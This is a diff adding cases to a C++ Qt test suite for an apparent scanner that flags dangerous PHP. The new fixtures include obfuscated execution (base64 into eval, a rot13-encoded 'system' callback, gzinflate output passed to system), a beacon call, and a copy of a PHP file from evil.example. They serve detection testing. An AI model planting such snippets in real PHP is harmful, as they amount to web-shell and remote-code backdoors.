@@ -103,6 +103,16 @@ private Q_SLOTS:
         row("code inside html", QStringLiteral("<html>\n<?php exec('x'); ?>\n</html>\n"), l({ "shell:2" }));
         row("code after close tag", php("$x = 1; ?>\ntext system()\n<?php passthru('y');\n"), l({ "shell:4" }));
         row("short echo tag", QStringLiteral("<p>\n<?= shell_exec('date') ?>\n</p>\n"), l({ "shell:2" }));
+        row("decoded variable interpolated into eval", php("$c = base64_decode($p);\neval(\"$c;\");\n"),
+            l({ "eval:3", "obfuscated:3" }));
+        row("decoded callback", php("$cb = str_rot13('flfgrz');\ncall_user_func($cb, 'id');\n"), l({ "obfuscated:3" }));
+        row("decoded regex pattern", php("preg_replace(base64_decode($p), $r, $s);\n"), l({ "obfuscated:2" }));
+        row("assignment inside if", php("if ($k) $c = gzinflate($b);\nsystem($c);\n"),
+            l({ "obfuscated:3", "shell:3" }));
+        row("curl_setopt_array url",
+            php("curl_setopt_array($ch, [\n    CURLOPT_URL => 'https://beacon.example.com/b',\n]);\n"),
+            l({ "outbound:2" }));
+        row("copy from url", php("copy('https://evil.example/x.php', __DIR__ . '/x.php');\n"), l({ "outbound:2" }));
         row("several on one file", php("// harmless comment\nsystem('a');\n$x = 'eval';\neval($x);\n"),
             l({ "eval:5", "shell:3" }));
     }
@@ -162,6 +172,12 @@ private Q_SLOTS:
         QTest::newRow("preg_replace without e") << php("$s = preg_replace('/a/i', 'b', $s);\n");
         QTest::newRow("constant named like exec") << php("const EXEC = 1;\necho EXEC;\n");
         QTest::newRow("attribute") << php("#[Attribute]\nclass Foo {}\n");
+        QTest::newRow("decoded subject of a replace")
+            << php("$s = preg_replace('/\\s+/', ' ', base64_decode($body));\n");
+        QTest::newRow("decoded argument of a harmless callback")
+            << php("$x = call_user_func('strtoupper', base64_decode($b));\n");
+        QTest::newRow("function returning by reference") << php("function &exec(array $a) { return $a; }\n");
+        QTest::newRow("windows include path") << php("include 'lib' . DIRECTORY_SEPARATOR . 'a.php';\n");
         QTest::newRow("comment then close tag") << php("// system() ?>\n<b>exec()</b>\n");
     }
 
